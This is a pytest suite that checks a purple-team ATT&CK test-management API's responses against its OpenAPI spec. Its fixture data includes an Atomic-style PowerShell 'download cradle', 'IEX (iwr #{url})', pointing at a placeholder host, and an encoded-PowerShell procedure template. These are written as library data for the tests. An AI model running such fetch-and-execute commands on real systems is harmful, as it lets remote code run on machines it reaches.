"""Real responses checked against what /api/v1/openapi.json declares for them (tests/spec_check.py).

Clients are generated from the spec: a status, body, content type or header it does not declare
is one such a client cannot read.
"""

from __future__ import annotations

import io

import pyotp
import pytest

from tests.conftest import DEFAULT_PASSWORD
from tests.missions.conftest import LEAD_PERMISSIONS, sync
from tests.mitre.bundle import build_bundle, group, retired_groups, uses
from tests.spec_check import SpecChecker
from violet.core.storage import LocalBlobStore


@pytest.fixture
def conforms(client):
    """`conforms(response)`: the list of ways the response disagrees with the spec."""
    checker = SpecChecker(client.get("/api/v1/openapi.json").json)
    return checker.check


# The database diagnostics answer 503 with the same report as their 200 (what failed, and how).
OWN_ERROR_BODIES = {"GET /api/v1/diag/db 503"}


def test_every_documented_error_has_the_problem_body(client):
    spec = client.get("/api/v1/openapi.json").json
    without_body = []
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            if method == "parameters":
                continue
            for status, answer in operation["responses"].items():
                if status == "default" or int(status) < 400 or "$ref" in answer:
                    continue  # the shared answers (401, 403, 422) are problems themselves
                content = answer.get("content", {})
                if content != {
                    "application/problem+json": {"schema": {"$ref": "#/components/schemas/Problem"}}
                }:
                    without_body.append(f"{method.upper()} {path} {status}")
    assert set(without_body) == OWN_ERROR_BODIES


def test_a_stale_if_match_is_the_documented_problem(client, admin_header, conforms):
    template = client.post(
        "/api/v1/test-templates", json={"name": "Kerberoast"}, headers=admin_header
    )

    stale = client.patch(
        f"/api/v1/test-templates/{template.json['id']}",
        json={"name": "Kerberoasting"},
        headers={**admin_header, "If-Match": '"7"'},
    )

    assert stale.status_code == 412
    assert conforms(stale) == []


def test_too_many_logins_is_the_documented_problem_with_retry_after(client, make_user, conforms):
    make_user("dave@example.test")
    for _ in range(10):
        client.post(
            "/api/v1/auth/login", json={"email": "dave@example.test", "password": "wrong password!"}
        )

    blocked = client.post(
        "/api/v1/auth/login", json={"email": "dave@example.test", "password": "wrong password!"}
    )

    assert blocked.status_code == 429 and "Retry-After" in blocked.headers
    assert conforms(blocked) == []


def test_the_etag_of_a_versioned_resource_is_declared(client, admin_header, conforms):
    mission = client.post("/api/v1/missions", json={"name": "Purple week"}, headers=admin_header)
    url = f"/api/v1/missions/{mission.json['id']}"

    read = client.get(url, headers=admin_header)
    changed = client.patch(url, json={"environment": "lab"}, headers=admin_header)

    assert (read.headers["ETag"], changed.headers["ETag"]) == ('"1"', '"2"')
    assert conforms(mission) == conforms(read) == conforms(changed) == []


def test_a_stale_or_malformed_if_match_on_any_versioned_resource_is_declared(
    client, admin_header, make_user, conforms
):
    user = make_user()
    url = f"/api/v1/users/{user.id}"

    stale = client.patch(url, json={"display_name": "X"}, headers={**admin_header, "If-Match": "9"})
    malformed = client.delete(url, headers={**admin_header, "If-Match": "yesterday"})

    assert (stale.status_code, malformed.status_code) == (412, 422)
    assert conforms(stale) == conforms(malformed) == []


def test_the_matrix_declares_the_etag_of_its_304(client, admin_header, conforms):
    first = client.get("/api/v1/mitre/matrix", headers=admin_header)
    again = client.get(
        "/api/v1/mitre/matrix", headers={**admin_header, "If-None-Match": first.headers["ETag"]}
    )

    assert again.status_code == 304 and again.headers["ETag"] == first.headers["ETag"]
    assert conforms(first) == conforms(again) == []


def test_every_download_of_a_mission_is_the_documented_content(
    client, admin_header, conforms, monkeypatch, tmp_path, app
):

    monkeypatch.setitem(app.extensions, "violet.blob_store", LocalBlobStore(tmp_path))
    mission = client.post("/api/v1/missions", json={"name": "Purple week"}, headers=admin_header)
    url = f"/api/v1/missions/{mission.json['id']}"
    test = client.post(f"{url}/tests", json={"name": "Encoded PowerShell"}, headers=admin_header)
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)
    evidence = client.post(
        f"{url}/tests/{test.json['id']}/evidence",
        data={"file": (io.BytesIO(png), "shot.png")},
        content_type="multipart/form-data",
        headers=admin_header,
    )

    downloads = [
        client.get(f"{url}/{path}", headers=admin_header)
        for path in (
            "navigator-layer",
            "export?format=json",
            "export?format=csv",
            "export?format=zip",
            "report",
            f"evidence/{evidence.json['id']}/download",
        )
    ]
    downloads.append(client.get("/api/v1/coverage/navigator-layer", headers=admin_header))
    for download in downloads:
        download.get_data()  # the streamed ones end (and leave their context) here

    assert [download.mimetype for download in downloads] == [
        "application/json",
        "application/json",
        "text/csv",
        "application/zip",
        "text/html",
        "image/png",
        "application/json",
    ]
    assert [problem for download in downloads for problem in conforms(download)] == []


def test_the_everyday_refusals_are_declared(client, admin_header, make_user, auth_header, conforms):
    """Unknown ids (404), a body that is not JSON (400), a wrong password (401), a spent refresh
    token (401), a viewer's write (403), an unknown invitation link (404), deleted items asked
    for without the permission to see them (403)."""
    viewer = make_user()
    mission = client.post("/api/v1/missions", json={"name": "Purple week"}, headers=admin_header)
    url = f"/api/v1/missions/{mission.json['id']}"
    client.put(
        f"{url}/members",
        json=[
            {"user_id": mission.json["created_by"], "role": "lead"},
            {"user_id": str(viewer.id), "role": "viewer"},
        ],
        headers=admin_header,
    )
    unknown = "00000000-0000-4000-8000-000000000000"

    refusals = [
        client.get(f"/api/v1/missions/{unknown}", headers=admin_header),
        client.get(f"/api/v1/users/{unknown}", headers=admin_header),
        client.get("/api/v1/coverage/compare", query_string={"from": unknown, "to": unknown},
                   headers=admin_header),
        client.post("/api/v1/missions", data="{", content_type="application/json",
                    headers=admin_header),
        client.post("/api/v1/auth/login", json={"email": "no@example.test", "password": "x" * 12}),
        client.post("/api/v1/auth/refresh", json={"refresh_token": "spent"}),
        client.patch(url, json={"environment": "lab"}, headers=auth_header(viewer)),
        client.get(f"{url}/member-candidates", query_string={"q": "a"},
                   headers=auth_header(viewer)),
        client.get("/api/v1/invitations/lookup", query_string={"token": "x" * 43}),
        client.get("/api/v1/defense-tools", query_string={"include_deleted": "true"},
                   headers=auth_header(viewer)),
    ]  # fmt: skip

    assert [refusal.status_code for refusal in refusals] == [
        404, 404, 404, 400, 401, 401, 403, 403, 404, 403
    ]  # fmt: skip
    assert [problem for refusal in refusals for problem in conforms(refusal)] == []


@pytest.mark.parametrize(
    "schema, field, values",
    [
        ("MissionOut", "status", {"planned", "active", "completed", "archived"}),
        ("MissionOut", "my_role", {"lead", "red", "blue", "viewer", None}),
        ("MissionMemberOut", "role", {"lead", "red", "blue", "viewer"}),
        ("MissionTestOut", "state", {"pending", "in_progress", "waiting_blue", "completed",
                                     "cancelled"}),
        ("MissionTestOut", "execution_result", {"success", "failed", "partial", None}),
        ("MissionTestOut", "opsec_level", {"low", "medium", "high", None}),
        ("MissionTestTagOut", "kind", {"tactic", "technique", "subtechnique"}),
        ("MissionTestTagOut", "catalogue_state", {"current", "deprecated", "revoked", "missing"}),
        ("DefenseToolOut", "layer", {"edr", "siem", "ndr", "firewall", "email", "identity", "av",
                                     "other"}),
        ("TestTemplateOut", "opsec_level", {"low", "medium", "high", None}),
        ("MitreTagOut", "kind", {"tactic", "technique", "subtechnique"}),
    ],
)  # fmt: skip
def test_the_values_a_client_switches_on_are_enumerated(client, schema, field, values):
    spec = client.get("/api/v1/openapi.json").json
    assert set(spec["components"]["schemas"][schema]["properties"][field].get("enum", [])) == values


# --- Every operation, over a realistic dataset -------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)
ATOMIC = b"""attack_technique: T1059.001
display_name: PowerShell
atomic_tests:
- name: Download cradle
  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
  description: Runs a script from the web.
  supported_platforms: [windows]
  input_arguments:
    url:
      description: Where the script is
      type: url
      default: https://example.test/x.ps1
    tries:
      description: How often
      type: integer
      default: 5
  executor:
    name: powershell
    command: IEX (iwr #{url})
"""
# GET operations read while the dataset is built rather than in the loop over the spec.
READ_ON_THE_WAY = {"/api/v1/invitations/lookup"}  # needs the token of a link, shown once


class Recorder:
    """Checks every response the test client gets against the spec, as it comes."""

    def __init__(self, checker: SpecChecker) -> None:
        self.checker = checker
        self.problems: list[str] = []
        self.answered: set[tuple[str, str]] = set()  # (method, path template) with a 2xx/304

    def __call__(self, response):
        if response.request.path == "/api/v1/openapi.json":
            return response  # the document itself
        found = self.checker.operation(response.request.method, response.request.path)
        if found and (response.status_code < 300 or response.status_code == 304):
            self.answered.add((response.request.method, found[0]))
        for problem in self.checker.check(response):
            if problem not in self.problems:
                self.problems.append(problem)
        response.get_data()  # a streamed body ends here, inside the test
        return response


@pytest.fixture
def recorded(client, monkeypatch):
    recorder = Recorder(SpecChecker(client.get("/api/v1/openapi.json").json))
    send = client.open
    monkeypatch.setattr(client, "open", lambda *args, **kwargs: recorder(send(*args, **kwargs)))
    return recorder


def test_every_operation_answers_what_the_spec_declares(
    app, client, make_user, auth_header, admin, admin_header, monkeypatch, tmp_path, recorded
):
    """A team's data built through the API (a second workspace, a template with ATT&CK tags and
    input arguments, a scenario, a mission with members, categories, tests in every state, a
    retest, per-tool detections, notes, evidence, notifications, invitations, API tokens,
    settings, tools and levels, a user with TOTP); then every GET of the spec as the
    administrator, the lead and blue, the main writes and the usual refusals. Each response must
    be what the spec declares (tests/spec_check.py), and every GET must have answered."""

    monkeypatch.setitem(app.extensions, "violet.blob_store", LocalBlobStore(tmp_path))
    sync(
        app,
        build_bundle(
            extra_objects=[
                group("G0016", "APT29", ["Cozy Bear"]),
                uses("G0016", "T1059"),
                *retired_groups(),
            ]
        ),
    )
    admin_ = admin_header
    people = {
        "lead": make_user(
            perms=[*LEAD_PERMISSIONS, "test_template.write", "scenario_template.write"],
            display_name="Léa",
        ),
        "red": make_user(perms=["test_template.read"], display_name=None),
        "blue": make_user(),
        "viewer": make_user(),
    }
    lead, red, blue, viewer = (auth_header(user) for user in people.values())

    def ok(response, status=200):
        assert response.status_code == status, (response.request.path, response.data[:300])
        return response.json if response.data else None

    # People, workspaces, settings, tokens, invitations.
    team = ok(
        client.post(
            "/api/v1/groups",
            json={"name": "Red team", "permissions": ["test_template.read"]},
            headers=admin_,
        ),
        201,
    )
    ok(
        client.patch(
            f"/api/v1/users/{people['red'].id}", json={"group_ids": [team["id"]]}, headers=admin_
        )
    )
    acme = ok(
        client.post("/api/v1/workspaces", json={"name": "Acme", "slug": "acme"}, headers=admin_),
        201,
    )
    ok(
        client.put(
            f"/api/v1/workspaces/{acme['id']}/members",
            json=[{"user_id": str(admin.id)}],
            headers=admin_,
        )
    )
    invitation = ok(
        client.post(
            "/api/v1/invitations",
            json={"email": "newbie@example.test", "group_ids": [team["id"]]},
            headers=admin_,
        ),
        201,
    )
    ok(client.get("/api/v1/invitations/lookup", query_string={"token": invitation["token"]}))
    ok(
        client.post(
            "/api/v1/invitations/accept",
            json={
                "token": invitation["token"],
                "display_name": "Newbie",
                "password": "a-long-password-1",
            },
        ),
        201,
    )
    ok(
        client.post("/api/v1/invitations", json={"email": "later@example.test"}, headers=admin_),
        201,
    )
    token = ok(
        client.post(
            "/api/v1/auth/tokens",
            json={
                "name": "nightly export",
                "permissions": [],
                "mission_access": "read",
                "expires_in_days": 30,
            },
            headers=admin_,
        ),
        201,
    )
    for key, value in (("organisation_name", "ACME"), ("mfa_required", False)):
        ok(client.put(f"/api/v1/settings/{key}", json={"value": value}, headers=admin_))
    totp_user = make_user("totp@example.test")
    secret = ok(client.post("/api/v1/auth/mfa/setup", headers=auth_header(totp_user)))["secret"]
    ok(
        client.post(
            "/api/v1/auth/mfa/enable",
            json={"password": DEFAULT_PASSWORD, "code": pyotp.TOTP(secret).now()},
            headers=auth_header(totp_user),
        )
    )
    challenge = ok(
        client.post(
            "/api/v1/auth/login", json={"email": "totp@example.test", "password": DEFAULT_PASSWORD}
        )
    )
    assert challenge["mfa_required"] is True
    signed_in = ok(
        client.post(
            "/api/v1/auth/login", json={"email": people["blue"].email, "password": DEFAULT_PASSWORD}
        )
    )
    ok(client.post("/api/v1/auth/refresh", json={"refresh_token": signed_in["refresh_token"]}))

    # Tools, levels, the library.
    tools = {
        name: ok(
            client.post(
                "/api/v1/defense-tools",
                json={"name": name, "vendor": "Acme", "layer": layer},
                headers=admin_,
            ),
            201,
        )["id"]
        for name, layer in (("EDR", "edr"), ("SIEM", "siem"))
    }
    levels = {
        level["name"]: level["id"]
        for level in ok(client.get("/api/v1/detection-levels", headers=admin_))["items"]
    }
    unscored = ok(
        client.post(
            "/api/v1/detection-levels",
            json={"name": "Seen, unscored", "score": None, "color": "#777777"},
            headers=admin_,
        ),
        201,
    )
    template = ok(
        client.post(
            "/api/v1/test-templates",
            json={
                "name": "Encoded PowerShell",
                "procedure": "powershell -enc #{payload}",
                "platforms": ["windows"],
                "opsec_level": "high",
                "tags": ["lolbin"],
                "references": ["https://attack.mitre.org/techniques/T1059/001/"],
                "mitre": [
                    {"kind": "subtechnique", "external_id": "T1059.001"},
                    {"kind": "tactic", "external_id": "TA0002"},
                ],
                "input_arguments": [
                    {"name": "payload", "default": "SQBFAFgA"},
                    {"name": "tries", "default": 3},
                    {"name": "quiet", "default": True},
                    {"name": "proxy", "default": None},
                ],
            },
            headers=lead,
        ),
        201,
    )
    ok(
        client.post(
            "/api/v1/test-templates/import",
            data={"file": (io.BytesIO(ATOMIC), "T1059.001.yaml")},
            content_type="multipart/form-data",
            headers=admin_,
        )
    )
    scenario = ok(
        client.post(
            "/api/v1/scenario-templates",
            json={"name": "Initial access", "test_template_ids": [template["id"]]},
            headers=admin_,
        ),
        201,
    )

    # The mission: members, categories, tests in every state, a retest, notes, evidence.
    mission = ok(
        client.post(
            "/api/v1/missions",
            json={"name": "Purple week", "environment": "prod", "start_date": "2026-01-05"},
            headers=lead,
        ),
        201,
    )
    base = f"/api/v1/missions/{mission['id']}"
    ok(
        client.put(
            f"{base}/members",
            json=[{"user_id": str(people[role].id), "role": role} for role in people],
            headers=lead,
        )
    )
    day_one = ok(
        client.post(f"{base}/categories", json={"name": "Day 1", "color": "#aa0000"}, headers=lead),
        201,
    )
    ok(
        client.post(
            f"{base}/scenarios",
            json={"scenario_template_id": scenario["id"], "category_id": day_one["id"]},
            headers=lead,
        ),
        201,
    )
    paths = {
        "pending": [],
        "in_progress": ["in_progress"],
        "cancelled": ["cancelled"],
        "waiting_blue": ["in_progress", "waiting_blue"],
        "completed": ["in_progress", "waiting_blue"],
    }
    tests = {}
    for state, attack_id in zip(
        paths, ("T1059", "T1078", "T1566", "T1059.001", "T1566.001"), strict=True
    ):
        kind = "subtechnique" if "." in attack_id else "technique"
        test = ok(
            client.post(
                f"{base}/tests",
                json={
                    "name": f"{state} test",
                    "mitre": [{"kind": kind, "external_id": attack_id}],
                    "expected_tool_ids": [tools["EDR"]],
                    "platforms": ["windows"],
                },
                headers=lead,
            ),
            201,
        )
        for step in paths[state]:
            ok(client.patch(f"{base}/tests/{test['id']}", json={"state": step}, headers=red))
        if state == "completed":
            ok(
                client.put(
                    f"{base}/tests/{test['id']}/detections",
                    json=[
                        {"tool_id": tools["EDR"], "detection_level_id": levels["Alerted"]},
                        {"tool_id": tools["SIEM"], "detection_level_id": unscored["id"]},
                    ],
                    headers=blue,
                )
            )
            ok(client.patch(f"{base}/tests/{test['id']}", json={"state": "completed"}, headers=red))
        tests[state] = test
    ok(client.post(f"{base}/tests/{tests['completed']['id']}/retest", headers=red), 201)
    test_base = f"{base}/tests/{tests['in_progress']['id']}"
    note = ok(
        client.post(f"{base}/notes", json={"content": "Kick-off **notes**"}, headers=lead), 201
    )
    ok(client.post(f"{test_base}/notes", json={"content": "Ran it twice."}, headers=red), 201)
    evidence = ok(
        client.post(
            f"{test_base}/evidence",
            data={"file": (io.BytesIO(PNG), "console.png"), "caption": "EDR console"},
            content_type="multipart/form-data",
            headers=red,
        ),
        201,
    )
    other = ok(client.post("/api/v1/missions", json={"name": "Second"}, headers=lead), 201)

    # Every GET of the spec, as the administrator, the lead and blue.
    samples = {
        "user_id": str(people["red"].id),
        "group_id": team["id"],
        "workspace_id": acme["id"],
        "template_id": template["id"],
        "scenario_id": scenario["id"],
        "mission_id": mission["id"],
        "category_id": day_one["id"],
        "test_id": tests["in_progress"]["id"],
        "note_id": note["id"],
        "evidence_id": evidence["id"],
        "level_id": unscored["id"],
        "tool_id": tools["EDR"],
    }
    external_ids = {"techniques": "T1059", "subtechniques": "T1059.001", "groups": "G0016"}
    queries = {
        "/api/v1/coverage/compare": {"from": mission["id"], "to": other["id"]},
        "/api/v1/missions/{mission_id}/member-candidates": {"q": "example"},
        "/api/v1/missions/{mission_id}/export": {"format": "json"},
    }
    spec = client.get("/api/v1/openapi.json").json
    for template_path, operations in spec["paths"].items():
        if "get" not in operations or template_path in READ_ON_THE_WAY:
            continue
        path = template_path
        for name, value in samples.items():
            path = path.replace(f"{{{name}}}", value)
        if "{external_id}" in path:
            # The segment naming what the id is of (`/groups/{external_id}/navigator-layer`).
            segments = template_path.split("/")
            kind = segments[segments.index("{external_id}") - 1]
            path = path.replace("{external_id}", external_ids[kind])
        for headers in (admin_, lead, blue):
            client.get(path, query_string=queries.get(template_path, {}), headers=headers)
    for format_ in ("csv", "zip"):
        client.get(f"{base}/export", query_string={"format": format_}, headers=lead)
    client.get(f"{base}/coverage", query_string={"by": "tool"}, headers=lead)
    client.get(
        f"{base}/tests", query_string={"include_deleted": "true", "limit": 500}, headers=lead
    )
    matrix = client.get("/api/v1/mitre/matrix", headers=blue)
    client.get("/api/v1/mitre/matrix", headers={**blue, "If-None-Match": matrix.headers["ETag"]})
    client.get(f"{base}/tests", headers={"Authorization": f"Bearer {token['token']}"})
    notifications = ok(client.get("/api/v1/notifications", headers=blue))["items"]
    ok(client.post(f"/api/v1/notifications/{notifications[0]['id']}/read", headers=blue))
    ok(client.post("/api/v1/notifications/read-all", headers=lead))

    # The main writes, undone where they can be.
    ok(client.get(f"{base}/save-as-scenario", headers=lead))
    ok(
        client.post(f"{base}/save-as-scenario", json={"name": "Purple week, again"}, headers=lead),
        201,
    )
    archive = client.get(f"{base}/export", query_string={"format": "zip"}, headers=lead)
    ok(
        client.post(
            "/api/v1/missions/import",
            data={"file": (io.BytesIO(archive.data), "purple-week.zip")},
            content_type="multipart/form-data",
            headers=lead,
        ),
        201,
    )
    order = [test["id"] for test in reversed(tests.values())]
    client.put(f"{base}/tests/order", json={"test_ids": order}, headers=lead)
    for url, headers in (
        (f"{base}/tests/{tests['pending']['id']}", lead),
        (f"{base}/categories/{day_one['id']}", lead),
        (f"{base}/evidence/{evidence['id']}", red),
        (f"/api/v1/missions/{other['id']}", lead),
        (f"/api/v1/defense-tools/{tools['SIEM']}", admin_),
        (f"/api/v1/scenario-templates/{scenario['id']}", admin_),
        (f"/api/v1/groups/{team['id']}", admin_),
        (f"/api/v1/users/{people['viewer'].id}", admin_),
    ):
        ok(client.delete(url, headers=headers), 204)
        ok(client.post(f"{url}/restore", headers=headers))
    ok(client.delete(f"{base}/notes/{note['id']}", headers=lead), 204)
    ok(client.patch(base, json={"status": "active", "end_date": None}, headers=lead))
    ok(
        client.patch(
            f"/api/v1/detection-levels/{unscored['id']}", json={"score": 10}, headers=admin_
        )
    )
    ok(
        client.patch(
            f"/api/v1/test-templates/{template['id']}", json={"cleanup": None}, headers=lead
        )
    )
    ok(client.patch("/api/v1/auth/me", json={"display_name": "Blue analyst"}, headers=blue))
    ok(client.put("/api/v1/workspaces/current", json={"workspace_id": acme["id"]}, headers=admin_))
    ok(client.delete(f"/api/v1/auth/tokens/{token['id']}", headers=admin_), 204)

    # The usual refusals.
    client.patch(f"{base}/tests/{tests['pending']['id']}", json={"state": "completed"}, headers=red)
    client.patch(
        f"{base}/tests/{tests['pending']['id']}",
        json={"name": "x"},
        headers={**lead, "If-Match": '"99"'},
    )
    client.post(f"{base}/notes", json={"content": "hi"}, headers=viewer)
    client.delete(f"/api/v1/detection-levels/{levels['Alerted']}", headers=admin_)
    client.post(
        "/api/v1/test-templates/import",
        data={"file": (io.BytesIO(b"{"), "lib.json")},
        content_type="multipart/form-data",
        headers=admin_,
    )
    client.post("/api/v1/auth/login/mfa", json={"mfa_token": "forged", "code": "123456"})
    client.get("/api/v1/users", headers=viewer)

    assert recorded.problems == [], "\n".join(recorded.problems)
    gets = {path for path, operations in spec["paths"].items() if "get" in operations}
    unread = gets - {path for method, path in recorded.answered if method == "GET"}
    assert unread == set()


def test_conflicts_and_the_enrolment_restriction_are_declared(
    client, admin_header, default_workspace, make_user, conforms
):
    """A name already taken, the default workspace (409); a user who must first set up TOTP
    (403 on every other view)."""
    client.post("/api/v1/groups", json={"name": "Blue team"}, headers=admin_header)
    user = make_user()
    client.put("/api/v1/settings/mfa_required", json={"value": True}, headers=admin_header)
    session = client.post(
        "/api/v1/auth/login", json={"email": user.email, "password": DEFAULT_PASSWORD}
    ).json
    enrolling = {"Authorization": f"Bearer {session['access_token']}"}

    refusals = [
        client.post("/api/v1/groups", json={"name": "Blue team"}, headers=admin_header),
        client.delete(f"/api/v1/workspaces/{default_workspace.id}", headers=admin_header),
        client.get("/api/v1/missions", headers=enrolling),
    ]

    assert [refusal.status_code for refusal in refusals] == [409, 409, 403]
    assert [problem for refusal in refusals for problem in conforms(refusal)] == []
